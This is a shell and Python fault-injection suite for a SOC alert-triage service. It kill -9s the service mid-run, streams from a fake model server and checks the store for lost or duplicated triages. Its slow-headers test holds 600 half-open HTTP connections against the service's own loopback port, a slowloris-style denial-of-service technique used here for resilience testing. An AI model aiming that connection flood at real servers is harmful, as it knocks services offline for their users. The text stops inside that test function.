#!/usr/bin/env bash
# Fault suite: kills the release binary at the worst moments and checks, in the SQLite store,
# that nothing was lost, nothing was triaged twice and no triage row is left `running`; then
# loads it where it is weak (huge stored alerts, half-open connections, a flood of one
# analyst's feedback). Each scenario runs in a fresh data dir (a copy of DATA_DIR/index
# only, empty store; precedent-flood uses a second one for its no-feedback run):
#
#   batch-kill-resume   `triage --batch` (offline, 200 alerts from make-alerts.py --reword)
#                       is killed -9 once a quarter are triaged, the moment the store shows a
#                       row `running` (an offline run holds its row open for milliseconds); if
#                       that kill left no row running, the batch is resumed and killed again
#                       (up to 6 kills). Then the batch runs to its end with `--resume`. Every
#                       alert must have exactly one complete triage.
#   serve-kill-intake   300 alerts POSTed to /alerts (16 at a time, offline engine,
#                       `[server] auto_triage = "all"`); `serve` is killed -9 once 100 are
#                       stored (again at a moment a row is running; up to 3 kills, at 100,
#                       160 and 220 stored, until one leaves a row running) and restarted on
#                       the same port while the senders keep retrying (429 after Retry-After,
#                       refused connections after 0.2 s, as a SIEM would). Once GET /alerts
#                       shows none queued or triaging: every alert stored once and triaged
#                       (complete) exactly once.
#   serve-kill-stream   POST /triage?stream=true against a scripted Anthropic server that
#                       streams one text delta every 0.5 s; `serve` is killed -9 after the
#                       third `reasoning` event, restarted (GET /health, GET /alerts); the run
#                       must not be left `running` (the new build marks it `abandoned`).
#   triage-kill-stream  `triage --engine anthropic ALERT` against the same slow server, killed
#                       -9 after the third delta; then `history` opens the store; the run must
#                       not be left `running`.
#   client-disconnect   POST /triage (JSON) against a model that answers after 8 s, with
#                       `curl -m 3`; the run must end (cancelled when the drop is noticed, or
#                       complete when the model answers): it is polled until 4 s past the
#                       model's answer, and its status 2 s after the disconnect is reported.
#   alerts-list-memory  `serve` (offline, `[server] auto_triage = "off"`: nothing triaged)
#                       takes 1000 alerts whose raw event is ~300 KB (a `raw_log.blob` of
#                       word salad; one alert per POST, 8 at a time), then answers
#                       GET /alerts?limit=1000 ten times in a row. Held when serve's VmRSS
#                       after the ten GETs is below 2 x its VmRSS before them + 100 MB.
#                       Figures: rss_before_mb rss_after_mb, and body_kb of one GET's body.
#   slow-headers        600 TCP connections to `serve` send `GET /health HTTP/1.1` and one
#                       header line, never the blank line, and stay open; meanwhile curl asks
#                       /health every 0.2 s (curl -m 2) for up to 30 s. Held when /health
#                       answers 200 within 15 s of the flood's start. Figures:
#                       health_first_ok_after_s, and how many of the 600 the server closed
#                       within 15 s (a build with a header timeout and a connection cap
#                       closes them; one without keeps them all open).
#   precedent-flood     offline engine: 25 distinct high-severity alerts (encoded PowerShell,
#                       LSASS dumps, shadow-copy deletion, Mimikatz, ...) are triaged with
#                       `triage --batch`, then one analyst marks each LOW 16 times (400
#                       POST /feedback with analyst_correct false, through `serve`); then
#                       1000 later alerts, the same 25 rules on other hosts and users, are
#                       triaged with `triage --batch`. The same 1000 are first triaged in a
#                       fresh data dir with no feedback. Held when fewer than half of the
#                       later verdicts are LOW and no alert CRITICAL without feedback became
#                       BENIGN. Figures: low=N/1000, critical_to_benign, and the verdict
#                       histogram without feedback (no_feedback=...).
#
# One line per scenario on stdout: `name  held|NOT HELD  figures`, then a summary; details
# (statuses, timings, failures) go to stderr. Exit code 1 when any scenario did not hold
# (including when its fault could not be injected). The first five print `stored=N lost=N
# duplicated=N running=N` and hold when lost, duplicated and running are all 0: stored =
# input alerts with a row in `alerts`; lost = inputs with no alert row, or no complete triage
# where one is expected (batch, intake), or no triage row at all (stream, disconnect);
# duplicated = alerts with more than one complete triage (or stored twice); running = triage
# rows still `running` after the restart / clean-up step. The last three print their own
# figures (above).
#
# Usage: benches/fault-suite.sh DATA_DIR_WITH_INDEX
#   FAULT_PORT=18790  first of the seven loopback ports used (PORT..PORT+6; must be free)
#   KEEP=1            keep the scratch directory (data dirs, process logs) and print its path
#   FAULT_ONLY="a b"  run only the named scenarios (the summary counts those)
# Takes about two minutes on the 2-core machine (slow-headers alone waits 15-30 s;
# alerts-list-memory writes ~300 MB to the scratch store, so the scratch dir needs ~1 GB free).
# Needs python3 and curl. Runs the release binary as it is (common.sh builds it only when
# missing).
set -euo pipefail
src="${1:?pass a data dir holding an index (soc-copilot ingest)}"
src=$(cd "$src" && pwd)
[ -d "$src/index" ] || { echo "$src has no index/ (run soc-copilot ingest)" >&2; exit 2; }
source "$(dirname "$0")/common.sh"
# Assets as .cargo/config.toml gives them to cargo (a shell running the binary has none),
# unless already set; nothing from the caller's LLM or server set-up leaks in.
export ORT_DYLIB_PATH="${ORT_DYLIB_PATH:-$PWD/../shared/runtime/libonnxruntime.so.1.31.1}"
export SOC_COPILOT_MODEL_DIR="${SOC_COPILOT_MODEL_DIR:-$PWD/../shared/models/all-MiniLM-L6-v2-int8}"
export SOC_COPILOT_ATTACK_BUNDLE="${SOC_COPILOT_ATTACK_BUNDLE:-$PWD/../shared/attack/enterprise-attack.json}"
export SOC_COPILOT_ATTACK_VERSION="${SOC_COPILOT_ATTACK_VERSION:-18.1}"
unset ANTHROPIC_API_KEY ANTHROPIC_BASE_URL OPENAI_API_KEY OPENAI_BASE_URL SOC_COPILOT_ENGINE \
      SOC_COPILOT_API_TOKEN SOC_COPILOT_CONFIG SOC_COPILOT_DATA_DIR
port="${FAULT_PORT:-18790}"
# The binary is pinned for the whole run (a hard link, else a copy), so a build that replaces
# target/release/soc-copilot meanwhile cannot mix two versions in one suite.
ln "$bin" "$work/soc-copilot" 2>/dev/null || cp "$bin" "$work/soc-copilot"
echo "binary: $bin ($(date -r "$bin" '+%F %T'))" >&2

# The harness runs in the background so a signal reaches this trap at once. It lists the
# binary's processes it has running in $work/pids; whatever is still running when the suite
# ends (interrupted, or the harness died) is killed here: only the harness itself and
# processes that are still the pinned binary.
py=
cleanup() {
  [ -n "$py" ] && kill "$py" 2>/dev/null
  if [ -f "$work/pids" ]; then
    while read -r p; do
      case "$(readlink "/proc/$p/exe" 2>/dev/null)" in "$work/soc-copilot"*) kill -9 "$p" 2>/dev/null ;; esac
    done < "$work/pids"
  fi
  if [ "${KEEP:-0}" = 1 ]; then echo "scratch kept in $work" >&2; else rm -rf "$work"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

python3 - "$src" "$work" "$work/soc-copilot" "$port" <<'PY' &
import concurrent.futures, http.client, json, os, random, select, shutil, signal, socket, sqlite3
import subprocess, sys, threading, time, urllib.error, urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SRC, WORK, BIN, PORT0 = sys.argv[1], sys.argv[2], os.path.abspath(sys.argv[3]), int(sys.argv[4])
SLOW_DELTAS, SLOW_GAP = 20, 0.5      # the slow model: 20 deltas, one every 0.5 s
LATE_SECONDS = 8.0                   # the late model: silent for 8 s, then the whole answer
T0 = time.time()


def note(msg):
    print(f"    {msg}", file=sys.stderr, flush=True)


class Fail(Exception):
    """The scenario could not run as designed (its line says NOT HELD, the reason goes to stderr)."""


# ---- a scripted Anthropic Messages API (SSE) --------------------------------------------
VERDICT = json.dumps({
    "verdict": "HIGH", "confidence": 0.8,
    "matched_techniques": [{"id": "T1059.001", "name": "PowerShell", "rationale": "encoded command"}],
    "attack_chain": [{"tactic": "Execution", "technique": "T1059.001", "description": "Word launched PowerShell"}],
    "reasoning": "Office spawning encoded PowerShell is a macro dropper.",
    "recommended_actions": ["Isolate the host"], "false_positive_indicators": [],
    "investigation_queries": [], "evidence": [], "escalation": {"recommended": True, "draft": "Possible dropper"}})
model_lock = threading.Lock()
model_state = {"deltas": 0, "requests": 0}   # reset per scenario


def sse(event, data):
    return f"event: {event}\ndata: {json.dumps(data)}\n\n".encode()


def delta(text):
    return sse("content_block_delta", {"type": "content_block_delta", "index": 0,
                                       "delta": {"type": "text_delta", "text": text}})


class Model(BaseHTTPRequestHandler):
    """POST /slow/v1/messages streams a delta every SLOW_GAP s; /late/v1/messages says nothing
    for LATE_SECONDS, then answers at once. Both end with a fenced verdict and message_stop."""
    protocol_version = "HTTP/1.0"

    def log_message(self, *args):
        pass

    def do_POST(self):
        self.rfile.read(int(self.headers.get("content-length", 0)))
        with model_lock:
            model_state["requests"] += 1
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        try:
            self.wfile.write(sse("message_start", {"type": "message_start", "message": {
                "id": "msg_fault", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5",
                "content": [], "stop_reason": None, "usage": {"input_tokens": 900, "output_tokens": 1}}}))
            self.wfile.write(sse("content_block_start", {"type": "content_block_start", "index": 0,
                                                         "content_block": {"type": "text", "text": ""}}))
            self.wfile.flush()
            if self.path.startswith("/slow/"):
                for i in range(SLOW_DELTAS):
                    self.wfile.write(delta(f"Step {i + 1} of the analysis. "))
                    self.wfile.flush()
                    with model_lock:
                        model_state["deltas"] += 1
                    time.sleep(SLOW_GAP)
            else:
                time.sleep(LATE_SECONDS)
            self.wfile.write(delta("\n\n```json\n" + VERDICT + "\n```"))
            self.wfile.write(sse("content_block_stop", {"type": "content_block_stop", "index": 0}))
            self.wfile.write(sse("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn"},
                                                   "usage": {"output_tokens": 300}}))
            self.wfile.write(sse("message_stop", {"type": "message_stop"}))
            self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            pass


model = ThreadingHTTPServer(("127.0.0.1", 0), Model)
model.daemon_threads = True
threading.Thread(target=model.serve_forever, daemon=True).start()
MODEL_URL = f"http://127.0.0.1:{model.server_address[1]}"


def reset_model():
    with model_lock:
        model_state.update(deltas=0, requests=0)


# ---- processes -----------------------------------------------------------------------------
procs = []


def write_pids():
    with open(os.path.join(WORK, "pids"), "w") as f:
        f.writelines(f"{p.pid}\n" for p in procs if p.poll() is None)


def spawn(d, args, log, env=None):
    """Starts the binary on data dir `d` with the scenario's config; output to `log`."""
    out = open(os.path.join(d, log), "ab")
    p = subprocess.Popen([BIN, "--config", os.path.join(d, "soc-copilot.toml"), "--data-dir", d, *args],
                         stdin=subprocess.DEVNULL, stdout=out, stderr=out, env=dict(os.environ, **(env or {})))
    procs.append(p)
    write_pids()
    return p


def kill9(p):
    p.send_signal(signal.SIGKILL)
    p.wait()
    write_pids()


def stop(p, timeout=20):
    """SIGTERM (a graceful stop), then SIGKILL if it hangs."""
    if p.poll() is None:
        p.send_signal(signal.SIGTERM)
        try:
            p.wait(timeout)
        except subprocess.TimeoutExpired:
            note(f"pid {p.pid} ignored SIGTERM for {timeout} s; killed")
            kill9(p)
    write_pids()


def tail(d, log, n=5):
    try:
        lines = open(os.path.join(d, log), errors="replace").read().splitlines()
        return " | ".join(lines[-n:])
    except OSError:
        return ""


def port_free(port):
    with socket.socket() as s:
        s.settimeout(0.5)
        if s.connect_ex(("127.0.0.1", port)) == 0:
            raise Fail(f"port {port} is already in use (set FAULT_PORT)")


def serve(d, port, engine, env=None, log="serve.log"):
    port_free(port)
    p = spawn(d, ["serve", "--engine", engine, "--listen", f"127.0.0.1:{port}"], log, env)
    wait_health(d, port, p, log)
    return p


def wait_health(d, port, p, log, timeout=60):
    """Until GET /health (curl) says ok with the knowledge base loaded."""
    end = time.time() + timeout
    while time.time() < end:
        if p.poll() is not None:
            raise Fail(f"serve exited with {p.returncode}: {tail(d, log)}")
        r = subprocess.run(["curl", "-fs", "-m", "2", f"http://127.0.0.1:{port}/health"],
                           capture_output=True, text=True)
        if r.returncode == 0:
            try:
                h = json.loads(r.stdout)
                if h.get("status") == "ok" and h.get("techniques", 0) > 0:
                    return
            except ValueError:
                pass
        time.sleep(0.2)
    raise Fail(f"serve on port {port} not healthy after {timeout} s: {tail(d, log)}")


def get_json(port, path, timeout=10):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=timeout) as r:
        return json.load(r)


# ---- data dirs and the store ---------------------------------------------------------------
def fresh(name, auto_triage="all"):
    d = os.path.join(WORK, name)
    os.makedirs(d)
    shutil.copytree(os.path.join(SRC, "index"), os.path.join(d, "index"))
    with open(os.path.join(d, "soc-copilot.toml"), "w") as f:
        f.write(f'[server]\nauto_triage = "{auto_triage}"\n')
    return d


SAMPLE = next(json.loads(l) for l in open("data/queue/sample-queue.ndjson") if '"alert_id"' in l)


def alert_file(d, key):
    path = os.path.join(d, f"{key}.json")
    with open(path, "w") as f:
        json.dump(dict(SAMPLE, alert_id=key), f)
    return path


def query(d, sql, args=()):
    """Rows from the scenario's store; [] while it does not exist yet or is busy."""
    db = os.path.join(d, "soc-copilot.db")
    if not os.path.exists(db):
        return []
    try:
        c = sqlite3.connect(db, timeout=5)
        try:
            return c.execute(sql, args).fetchall()
        finally:
            c.close()
    except sqlite3.Error:
        return []


def statuses(d, key):
    return [s for (s,) in query(d, "SELECT t.status FROM triages t JOIN alerts a ON a.id = t.alert_id "
                                   "WHERE a.alert_key = ? ORDER BY t.created_at", (key,))]


def count(d, keys, expect):
    """stored, lost, duplicated, running for input `keys`; `expect` is 'complete' (each needs a
    complete triage) or 'terminal' (each needs a triage row; running ones count as running)."""
    rows = {}
    for key, n in query(d, "SELECT alert_key, count(*) FROM alerts GROUP BY alert_key"):
        rows[key] = n
    per = {}
    for key, status, n in query(d, "SELECT a.alert_key, t.status, count(*) FROM triages t "
                                   "JOIN alerts a ON a.id = t.alert_id GROUP BY a.alert_key, t.status"):
        per.setdefault(key, {})[status] = n
    stored = lost = dup = 0
    for k in keys:
        s = per.get(k, {})
        stored += k in rows
        if k not in rows or (expect == "complete" and not s.get("complete")) or (expect == "terminal" and not s):
            lost += 1
        if s.get("complete", 0) > 1 or rows.get(k, 0) > 1:
            dup += 1
    running = sum(n for (n,) in query(d, "SELECT count(*) FROM triages WHERE status = 'running'"))
    by_status = dict(query(d, "SELECT status, count(*) FROM triages GROUP BY status"))
    return stored, lost, dup, running, by_status


def wait_for(cond, timeout, step=0.05):
    end = time.time() + timeout
    while time.time() < end:
        if cond():
            return True
        time.sleep(step)
    return False


# ---- the scenarios ---------------------------------------------------------------------------
def kill_while_running(d, p, timeout):
    """kill -9 `p` the moment the store shows a triage row `running` (an offline run keeps its
    row open for milliseconds only), or after `timeout` s regardless. Returns the rows left
    running just after the kill, or None when `p` ended first."""
    db = os.path.join(d, "soc-copilot.db")
    end = time.time() + timeout
    c = None
    try:
        while time.time() < end and p.poll() is None:
            try:
                c = c or sqlite3.connect(db, timeout=1)
                if c.execute("SELECT count(*) FROM triages WHERE status = 'running'").fetchone()[0]:
                    break
            except sqlite3.Error:
                pass
            time.sleep(0.002)
    finally:
        if c:
            c.close()
    if p.poll() is not None:
        write_pids()
        return None
    kill9(p)
    return running_rows(d)


def running_rows(d):
    return sum(c for (c,) in query(d, "SELECT count(*) FROM triages WHERE status = 'running'"))


def complete_rows(d):
    return sum(c for (c,) in query(d, "SELECT count(*) FROM triages WHERE status = 'complete'"))


def batch_kill_resume(d, port):
    n = 200
    src = os.path.join(d, "alerts.jsonl")
    subprocess.run([sys.executable, "benches/make-alerts.py", str(n), src, "fault-batch", "--reword"], check=True)
    keys = [json.loads(l)["alert_id"] for l in open(src)]
    # The first run is killed once a quarter is done, at a moment a row is open. If that kill
    # happened to leave no row running, the batch is resumed and killed again (up to 6 kills),
    # so the suite also exercises a run cut off between opening and closing its row.
    kills = []
    for attempt in range(6):
        resume = ["--resume"] if attempt else []
        log = f"batch{attempt + 1}.log"
        before = complete_rows(d)
        p = spawn(d, ["triage", "--engine", "offline", "--batch", src, *resume,
                      "--out", os.path.join(d, f"out{attempt + 1}.jsonl")], log)
        goal = n // 4 if attempt == 0 else before + 10
        if not wait_for(lambda: p.poll() is not None or complete_rows(d) >= goal, 90):
            raise Fail(f"run {attempt + 1} made no progress in 90 s: {tail(d, log)}")
        left = kill_while_running(d, p, 5)
        if left is None:
            if not kills:
                raise Fail(f"the batch ended (exit {p.returncode}) before it could be killed: {tail(d, log)}")
            break
        kills.append(f"{complete_rows(d)} complete/{left} running")
        if left:
            break
    note(f"killed -9 {len(kills)}x (at each kill: {', '.join(kills)})")
    out = os.path.join(d, "out-final.jsonl")
    p = spawn(d, ["triage", "--engine", "offline", "--batch", src, "--resume", "--out", out], "batch-final.log")
    try:
        p.wait(120)
    except subprocess.TimeoutExpired:
        raise Fail("the final --resume run did not finish in 120 s")
    write_pids()
    lines = [json.loads(l) for l in open(out)] if os.path.exists(out) else []
    verdicts = sum("verdict" in v for v in lines)
    resumed = sum(v.get("resumed") is True for v in lines)
    note(f"final --resume: exit {p.returncode}; {len(lines)} lines out, {verdicts} with a verdict, {resumed} resumed")
    return count(d, keys, "complete")


def serve_kill_intake(d, port):
    n = 300
    src = os.path.join(d, "alerts.jsonl")
    subprocess.run([sys.executable, "benches/make-alerts.py", str(n), src, "fault-storm", "--reword"], check=True)
    lines = open(src).read().splitlines()
    keys = [json.loads(l)["alert_id"] for l in lines]
    p = serve(d, port, "offline", log="serve1.log")
    deadline = time.time() + 120
    tally = {"accepted": 0, "duplicates": 0, "429": 0, "other HTTP errors": 0, "refused": 0, "gave_up": 0}
    lock = threading.Lock()
    senders_stop = threading.Event()

    def post(line):
        while time.time() < deadline and not senders_stop.is_set():
            req = urllib.request.Request(f"http://127.0.0.1:{port}/alerts", data=line.encode(),
                                         headers={"content-type": "application/json"})
            try:
                with urllib.request.urlopen(req, timeout=30) as r:
                    body = json.load(r)
                with lock:
                    tally["accepted"] += body.get("accepted", 0)
                    dups = body.get("duplicates") or 0          # a count or the list of ids
                    tally["duplicates"] += dups if isinstance(dups, int) else len(dups)
                return
            except urllib.error.HTTPError as e:
                with lock:
                    tally["429" if e.code == 429 else "other HTTP errors"] += 1
                time.sleep(float(e.headers.get("retry-after", "1")) if e.code == 429 else 0.5)
            except (urllib.error.URLError, http.client.HTTPException, OSError):
                with lock:        # the server is down (killed): try again shortly, as a SIEM does
                    tally["refused"] += 1
                time.sleep(0.2)
        with lock:
            tally["gave_up"] += 1

    ex = concurrent.futures.ThreadPoolExecutor(16)
    futures = [ex.submit(post, l) for l in lines]
    try:
        stored = lambda: sum(c for (c,) in query(d, "SELECT count(*) FROM alerts WHERE alert_key LIKE 'fault-storm-%'"))
        # Killed once 100 are stored, at a moment a triage row is open; if that kill left no
        # row running, again at 160 and 220 stored (each time restarted on the same port).
        for i, goal in enumerate((100, 160, 220)):
            if not wait_for(lambda: stored() >= goal, 60):
                raise Fail(f"fewer than {goal} alerts stored after 60 s: {tail(d, f'serve{i + 1}.log')}")
            left = kill_while_running(d, p, 5)
            if left is None:
                raise Fail(f"serve exited by itself ({p.returncode}): {tail(d, f'serve{i + 1}.log')}")
            queued = sum(c for (c,) in query(d, "SELECT count(*) FROM alerts WHERE intake = 'queued'"))
            note(f"killed -9 with {stored()} alerts stored, {queued} queued, {complete_rows(d)} complete, {left} running")
            time.sleep(0.5)
            p = spawn(d, ["serve", "--engine", "offline", "--listen", f"127.0.0.1:{port}"], f"serve{i + 2}.log")
            wait_health(d, port, p, f"serve{i + 2}.log")
            if left:
                break
        concurrent.futures.wait(futures)
    finally:
        senders_stop.set()
        ex.shutdown(cancel_futures=True)
    note(f"senders done: {tally}")

    def settled():
        """GET /alerts lists none queued or triaging, and the store has none waiting for intake."""
        try:
            busy = [a for a in get_json(port, "/alerts?limit=1000") if a["status"] in ("queued", "triaging")]
        except (urllib.error.URLError, OSError, ValueError):
            return False
        return not busy and not query(d, "SELECT 1 FROM alerts WHERE intake = 'queued' LIMIT 1")
    if not wait_for(settled, 60, 0.3):
        note("still queued or triaging after 60 s")
    result = count(d, keys, "complete")
    stop(p)
    return result


def serve_kill_stream(d, port):
    key = "fault-stream"
    body = json.dumps({"alert": dict(SAMPLE, alert_id=key)})
    env = {"ANTHROPIC_API_KEY": "sk-ant-fault-suite", "ANTHROPIC_BASE_URL": MODEL_URL + "/slow"}
    reset_model()
    p = serve(d, port, "anthropic", env)
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request("POST", "/triage?stream=true", body, {"content-type": "application/json"})
    resp = conn.getresponse()
    if resp.status != 200:
        raise Fail(f"POST /triage?stream=true answered {resp.status}: {resp.read()[:300]!r}")
    seen = 0
    try:
        while seen < 3:
            line = resp.fp.readline()
            if not line:
                raise Fail("the stream ended before three reasoning events")
            if line.strip() == b"event: reasoning":
                seen += 1
            elif line.strip() in (b"event: verdict", b"event: error"):
                raise Fail(f"the stream ended with {line.strip().decode()} before the kill")
    except socket.timeout:
        raise Fail("no reasoning events within 30 s")
    note(f"killed -9 mid-stream ({seen} reasoning events read, {model_state['deltas']} deltas sent); "
         f"row then: {statuses(d, key)}")
    kill9(p)
    conn.close()
    p = serve(d, port, "anthropic", env, "serve2.log")
    get_json(port, "/alerts?limit=10")       # what an analyst does first after a restart
    result = count(d, [key], "terminal")
    note(f"after the restart: {statuses(d, key)}")
    stop(p)
    return result


def triage_kill_stream(d, port):
    key = "fault-cli"
    env = {"ANTHROPIC_API_KEY": "sk-ant-fault-suite", "ANTHROPIC_BASE_URL": MODEL_URL + "/slow"}
    reset_model()
    p = spawn(d, ["triage", "--engine", "anthropic", alert_file(d, key)], "triage.log", env)
    if not wait_for(lambda: p.poll() is not None or model_state["deltas"] >= 3, 60):
        kill9(p)
        raise Fail("the model stream never started within 60 s")
    if p.poll() is not None:
        raise Fail(f"triage exited with {p.returncode} before the kill: {tail(d, 'triage.log')}")
    note(f"killed -9 mid-stream ({model_state['deltas']} deltas sent); row then: {statuses(d, key)}")
    kill9(p)
    h = spawn(d, ["history", "-n", "5"], "history.log")
    h.wait(60)
    write_pids()
    if h.returncode != 0:
        note(f"history exited with {h.returncode}: {tail(d, 'history.log')}")
    note(f"after history: {statuses(d, key)}")
    return count(d, [key], "terminal")


def client_disconnect(d, port):
    key = "fault-disconnect"
    env = {"ANTHROPIC_API_KEY": "sk-ant-fault-suite", "ANTHROPIC_BASE_URL": MODEL_URL + "/late"}
    reset_model()
    p = serve(d, port, "anthropic", env)
    with open(os.path.join(d, "body.json"), "w") as f:
        json.dump({"alert": dict(SAMPLE, alert_id=key)}, f)
    t = time.time()
    r = subprocess.run(["curl", "-s", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", "-X", "POST",
                        f"http://127.0.0.1:{port}/triage", "-H", "content-type: application/json",
                        "--data", "@" + os.path.join(d, "body.json")], capture_output=True, text=True)
    gone = time.time()
    note(f"curl -m 3 exit {r.returncode} (28 = timed out) after {gone - t:.1f} s, HTTP {r.stdout or '-'}")
    if model_state["requests"] == 0:
        raise Fail("the model was never called")
    time.sleep(max(0.0, gone + 2 - time.time()))
    note(f"2 s after the disconnect: {statuses(d, key)}")
    def ended_run():
        s = statuses(d, key)
        return bool(s) and "running" not in s
    ended = wait_for(ended_run, t + LATE_SECONDS + 4 - time.time(), 0.2)
    note(f"{'ended' if ended else 'still running'} {time.time() - t:.1f} s after the request: {statuses(d, key)}")
    result = count(d, [key], "terminal")
    stop(p)
    return result


# ---- resource scenarios: each returns Figures (held, its own figures) -------------------------
class Figures:
    def __init__(self, held, text):
        self.held, self.text = held, text


def rss_mb(p):
    """VmRSS and VmHWM (peak) of process `p`, in MB."""
    vals = {}
    with open(f"/proc/{p.pid}/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in ("VmRSS", "VmHWM"):
                vals[k] = int(v.split()[0]) / 1024
    return vals.get("VmRSS", 0.0), vals.get("VmHWM", 0.0)


def post_all(port, path, bodies, threads, deadline, server):
    """POSTs each body (bytes) once to `path`, `threads` at a time, retrying 429 (after
    Retry-After) and refused connections until `deadline` or until `server` exits. Returns
    (codes by status, parsed JSON answers in input order; None where it never got a 2xx)."""
    codes, answers, lock = {}, [None] * len(bodies), threading.Lock()

    def one(i):
        while time.time() < deadline and server.poll() is None:
            req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=bodies[i],
                                         headers={"content-type": "application/json"})
            try:
                with urllib.request.urlopen(req, timeout=60) as r:
                    body, code = r.read(), r.status
                with lock:
                    codes[code] = codes.get(code, 0) + 1
                try:
                    answers[i] = json.loads(body)
                except ValueError:
                    answers[i] = {}
                return
            except urllib.error.HTTPError as e:
                with lock:
                    codes[e.code] = codes.get(e.code, 0) + 1
                if e.code != 429:
                    note(f"POST {path} #{i}: HTTP {e.code}: {e.read()[:200]!r}")
                    return
                time.sleep(float(e.headers.get("retry-after", "1")))
            except (urllib.error.URLError, http.client.HTTPException, OSError):
                with lock:
                    codes["refused"] = codes.get("refused", 0) + 1
                time.sleep(0.2)

    with concurrent.futures.ThreadPoolExecutor(threads) as ex:
        list(ex.map(one, range(len(bodies))))
    return codes, answers


def alerts_list_memory(d, port):
    """1000 alerts with a ~300 KB raw event each are stored (auto_triage off), then
    GET /alerts?limit=1000 ten times in a row: serve's RSS must not balloon."""
    n, blob_len = 1000, 300_000
    rnd = random.Random(11)
    vocab = ("alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november "
             "oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu packet "
             "session request handler upstream latency retry socket buffer kernel module").split()
    pool = " ".join(rnd.choice(vocab) + (str(rnd.randrange(10000)) if rnd.random() < 0.2 else "")
                    for _ in range(400_000))          # ~3 MB of text; each alert takes a slice
    def body(i):
        off = (i * 7919) % (len(pool) - blob_len)
        return json.dumps({"alert_id": f"fault-big-{i:04d}", "source": "proxy", "severity": "medium",
                           "title": f"Proxy request with an oversized payload #{i}",
                           "description": "The proxy logged a request whose body was kept verbatim.",
                           "raw_log": {"host": f"WEB-{i % 40:02d}", "blob": pool[off:off + blob_len]}}).encode()
    bodies = [body(i) for i in range(n)]
    note(f"{n} alerts of {len(bodies[0]) / 1024:.0f} KB each ({sum(map(len, bodies)) / 2**20:.0f} MB)")
    p = serve(d, port, "offline")
    t = time.time()
    codes, answers = post_all(port, "/alerts", bodies, 8, t + 180, p)
    del bodies
    accepted = sum((a or {}).get("accepted", 0) for a in answers)
    note(f"POSTed in {time.time() - t:.1f} s: HTTP {codes}; accepted {accepted}")
    if p.poll() is not None:
        raise Fail(f"serve exited with {p.returncode} during the intake: {tail(d, 'serve.log')}")
    stored = sum(c for (c,) in query(d, "SELECT count(*) FROM alerts WHERE alert_key LIKE 'fault-big-%'"))
    if stored < n:
        raise Fail(f"only {stored} of {n} alerts stored: {tail(d, 'serve.log')}")
    time.sleep(1)
    before, peak0 = rss_mb(p)
    body_kb, gets = None, []
    for i in range(10):
        out = os.path.join(d, "list.json") if i == 0 else "/dev/null"
        r = subprocess.run(["curl", "-s", "-m", "120", "-o", out, "-w", "%{http_code} %{size_download} %{time_total}",
                            f"http://127.0.0.1:{port}/alerts?limit=1000"], capture_output=True, text=True)
        code, size, secs = (r.stdout.split() + ["000", "0", "0"])[:3]
        if code != "200":
            raise Fail(f"GET /alerts?limit=1000 #{i + 1}: curl exit {r.returncode}, HTTP {code}: {tail(d, 'serve.log')}")
        gets.append(float(secs))
        if i == 0:
            body_kb = int(float(size)) / 1024
            if body_kb < 50 * 1024:
                try:
                    items = json.load(open(out))
                    with_raw = sum(1 for a in items if isinstance(a, dict) and (a.get("raw") or a.get("raw_log")))
                    note(f"one GET: {len(items)} items, {with_raw} carrying the raw event")
                except ValueError:
                    note("one GET: the body is not JSON")
            os.remove(out)
    after, peak = rss_mb(p)
    note(f"10 GETs took {min(gets):.2f}–{max(gets):.2f} s each; RSS {before:.0f} → {after:.0f} MB "
         f"(peak {peak0:.0f} MB before the GETs, {peak:.0f} MB after)")
    stop(p)
    return Figures(after < 2 * before + 100,
                   f"rss_before_mb={before:.0f} rss_after_mb={after:.0f} body_kb={body_kb:.0f}")


def slow_headers(d, port, flood=600, closed_by=15.0, give_up=30.0):
    """`flood` connections that never finish their headers; /health must still answer."""
    p = serve(d, port, "offline")
    req = b"GET /health HTTP/1.1\r\nHost: x\r\n"
    socks, closed, refused = [], {}, 0        # closed: socket index -> seconds after t0
    t0 = time.time()
    for i in range(flood):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            socks.append(s)
            s.sendall(req)
        except OSError:
            if len(socks) > i:                # connected, then closed before the send
                closed[i] = time.time() - t0
            else:
                refused += 1
                socks.append(None)
    opened = time.time() - t0
    first_ok, tries, codes = [None], [0], {}

    def health():
        while time.time() - t0 < give_up and first_ok[0] is None:
            r = subprocess.run(["curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}",
                                f"http://127.0.0.1:{port}/health"], capture_output=True, text=True)
            tries[0] += 1
            codes[r.stdout or "-"] = codes.get(r.stdout or "-", 0) + 1
            if r.stdout == "200":
                first_ok[0] = time.time() - t0
            else:
                time.sleep(0.2)

    prober = threading.Thread(target=health, daemon=True)
    prober.start()
    poller = select.poll()
    fds = {}
    for i, s in enumerate(socks):
        if s is not None and i not in closed:
            s.setblocking(False)
            poller.register(s, select.POLLIN | select.POLLERR | select.POLLHUP)
            fds[s.fileno()] = i
    answered = 0
    while time.time() - t0 < closed_by or (prober.is_alive() and time.time() - t0 < give_up):
        for fd, _ in poller.poll(100):
            i = fds[fd]
            try:
                data = socks[i].recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                answered += 1                 # e.g. a 408 before the close: wait for the EOF
                continue
            closed[i] = time.time() - t0
            poller.unregister(fd)
    prober.join()
    for s in socks:
        if s is not None:
            s.close()
    within = sum(1 for v in closed.values() if v <= closed_by)
    at_once = sum(1 for v in closed.values() if v <= 1.0)
    note(f"{flood} half-open connections opened in {opened:.1f} s ({refused} refused); closed by the server: "
         f"{at_once} within 1 s, {within} within {closed_by:.0f} s, {len(closed)} by the end; "
         f"{answered} reads returned data")
    note(f"/health: {tries[0]} curl attempts, codes {codes}; first 200 after "
         f"{'-' if first_ok[0] is None else f'{first_ok[0]:.1f} s'}")
    healthy = first_ok[0] is not None and first_ok[0] <= closed_by
    stop(p)
